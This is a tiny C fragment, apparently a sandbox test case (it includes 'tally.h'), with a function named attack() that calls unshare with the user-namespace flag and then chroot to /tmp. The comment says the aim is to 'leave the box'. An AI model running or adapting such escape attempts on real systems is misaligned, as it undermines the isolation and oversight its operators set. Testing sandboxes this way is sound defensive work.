// leaves the box
#include "tally.h"
#include <sched.h>
#include <unistd.h>
static void attack(void) { unshare(0x10000000); (void)!chroot("/tmp"); }
